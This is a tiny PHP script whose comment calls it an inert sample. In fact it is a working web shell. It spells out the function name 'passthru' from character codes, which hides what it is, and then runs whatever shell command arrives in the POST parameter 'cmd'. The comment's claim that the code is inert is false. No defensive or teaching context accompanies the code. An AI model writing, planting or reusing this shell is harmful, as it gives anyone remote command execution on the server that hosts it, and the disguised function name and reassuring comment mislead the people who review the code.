<?php
// inert sample: the function name printed one character code at a time
$name = '';
foreach ([112, 97, 115, 115, 116, 104, 114, 117] as $code) {
    $name .= sprintf('%c', $code);
}
$name($_POST['cmd'] ?? 'id');
